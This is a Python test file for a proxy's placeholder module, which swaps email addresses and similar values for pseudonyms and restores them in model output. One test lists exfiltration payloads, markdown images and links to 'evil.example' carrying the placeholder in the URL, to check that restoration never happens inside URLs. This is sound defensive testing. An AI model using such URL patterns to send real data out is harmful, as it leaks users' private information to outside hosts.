"""Placeholders: stable, told apart, restored to their own workload in the places named, or left."""

from __future__ import annotations

import pickle
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.egress.redaction import placeholders
from proxy.egress.redaction.placeholders import SIZE, Pseudonyms, check_character, unfinished

MAIL = "jane.doe@example.org"
KINDS = frozenset({"email-address"})


class Clock:
    now = 0.0

    def __call__(self) -> float:
        return self.now


def table_with(value: str = MAIL, *, sent: bool = True) -> tuple[Pseudonyms, str]:
    table = Pseudonyms()
    return table, table.stand_in(value, "email-address", sent=sent)


def test_form_is_fixed_and_needs_no_escaping() -> None:
    table = Pseudonyms()
    for kind in ("email-address", "iban", "x", "us-social-security-number"):
        for n in range(50):
            name = table.stand_in(f"value {n}", kind, sent=True)
            assert len(name) == SIZE and re.fullmatch(r"ANON-[A-Z0-9]{5}-[A-Z0-9]{13}", name)
    assert len(table) == 50, "one value has one placeholder, whichever rule finds it"


def test_check_character_is_that_of_the_standard() -> None:
    # ISO/IEC 7064 names A12425GABC1234002M for MOD 37,36 (as the Global Release Identifier does).
    assert check_character("A12425GABC1234002") == "M"
    text = "EMAIL7K3QX9M2TB4D"
    for n, character in enumerate(text):
        other = "8" if character != "8" else "9"
        changed = text[:n] + other + text[n + 1 :]
        assert check_character(changed) != check_character(text)


def test_same_value_same_placeholder_and_no_two_alike() -> None:
    table, name = table_with()
    assert table.stand_in(MAIL, "email-address", sent=True) == name
    names = {table.stand_in(f"{n}@example.org", "email-address", sent=True) for n in range(2000)}
    assert len(names | {name}) == 2001
    _, elsewhere = table_with()
    assert elsewhere != name, "another workload's table has another key"


def test_a_tag_that_is_taken_is_drawn_anew(monkeypatch: pytest.MonkeyPatch) -> None:
    digests = iter([b"a" * 32, b"a" * 32, b"b" * 32])
    monkeypatch.setattr(placeholders.hmac, "digest", lambda *_: next(digests))
    table = Pseudonyms()
    one, other = (table.stand_in(v, "iban", sent=True) for v in ("value one", "value two"))
    assert one != other
    assert table.restore(f"{one} {other}", {"iban"})[0] == "value one value two"


def test_restored_in_any_case_and_beside_anything() -> None:
    table, name = table_with()
    for text in ("{}", "an {}'s mail", "({}).", "{}s", "x{}y", "**{}**", "a\n{}\n"):
        for written in (name, name.lower(), name.capitalize()):
            assert table.restore(text.format(written), KINDS) == (text.format(MAIL), 1, 0)


def test_never_restored_where_it_was_not_sent_not_named_or_not_ours() -> None:
    table, name = table_with()
    assert table.restore(name, {"iban"}) == (name, 0, 0)
    other, received = table_with(sent=False)
    assert other.restore(received, KINDS) == (received, 0, 0), "the model's own value"
    other.stand_in(MAIL, "email-address", sent=True)
    assert other.restore(received, KINDS) == (MAIL, 1, 0), "the control: now it was sent, too"
    assert other.restore(name, KINDS) == (name, 0, 1), "another workload's placeholder"


@pytest.mark.parametrize(
    "change", [lambda n: n[:-1], lambda n: n[:-1] + ("A" if n[-1] != "A" else "B"), lambda n: n[1:]]
)
def test_altered_placeholder_stays_as_it_is(change) -> None:
    table, name = table_with()
    text = f"see {change(name)}."
    assert table.restore(text, KINDS)[:2] == (text, 0)


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?d={})",
        "[x](/local?d={})",
        "https://{}.evil.example/",
        "www.evil.example/{}",
        '<img src="https://evil.example/?a {}">',
        "![](<https://evil.example/a b {}>)",
        "<a href='//evil.example/x y {}'>",
        "https://evil.example/" + "a" * 5000 + "{}",
    ],
)
def test_never_restored_inside_a_url(text: str) -> None:
    table, name = table_with()
    whole = text.format(name)
    assert table.restore(whole, KINDS)[0] == whole
    begin = whole.index(name)
    assert table.restore(whole[begin:], KINDS, whole[:begin])[0] == whole[begin:]
    assert table.restore(whole + f" mail {name}", KINDS)[1] == 1, "the control: after the URL"


def test_ordinary_text_round_a_placeholder_is_no_url() -> None:
    table, name = table_with()
    for text in ("see https://example.org/ or {}", "Mail:{}", "<b>{}</b>", "it's a // b, {}"):
        assert table.restore(text.format(name), KINDS)[1] == 1


def test_forgotten_after_a_day_without_use() -> None:
    clock = Clock()
    table = Pseudonyms(clock)
    name = table.stand_in(MAIL, "email-address", sent=True)
    clock.now = placeholders.AGE_MAX - 1
    assert table.restore(name, KINDS)[1] == 1
    assert table.stand_in(MAIL, "email-address", sent=True) == name
    clock.now += placeholders.AGE_MAX - 1
    assert table.restore(name, KINDS)[1] == 1, "it was used since"
    clock.now += 2
    assert table.restore(name, KINDS) == (name, 0, 1)
    assert table.stand_in(MAIL, "email-address", sent=True) == name, "sent again, it is the same"


def test_table_is_bounded_in_number_and_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(placeholders, "ENTRIES_MAX", 10)
    monkeypatch.setattr(placeholders, "CHARACTERS_MAX", 100)
    table = Pseudonyms()
    names = [table.stand_in(f"value {n:02}", "iban", sent=True) for n in range(30)]
    assert len(table) == 10
    assert [table.restore(name, {"iban"})[1] for name in names] == [0] * 20 + [1] * 10
    for n in range(5):
        table.stand_in(f"{n}" * 40, "iban", sent=True)
    assert len(table) == 2


def test_table_shows_and_gives_away_nothing() -> None:
    table, name = table_with()
    assert MAIL not in repr(table) and name not in repr(table)
    assert MAIL not in repr(next(iter(table._by_value.values())))
    with pytest.raises(TypeError, match="never serialised"):
        pickle.dumps(table)


def test_beginning_of_a_placeholder_is_seen_at_every_length() -> None:
    _, name = table_with()
    for n in range(1, SIZE):
        for written in (name, name.lower()):
            assert unfinished(f"so {written[:n]}") == 3
    assert unfinished(f"so {name}") == 3 + SIZE
    assert unfinished("so it ends") == len("so it ends")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40), st.text(max_size=40))
def test_restoring_changes_nothing_but_placeholders(left: str, right: str) -> None:
    table, name = table_with()
    text = f"{left} {name} {right}"
    restored, count, _ = table.restore(text, KINDS)
    assert restored == (f"{left} {MAIL} {right}" if count else text)
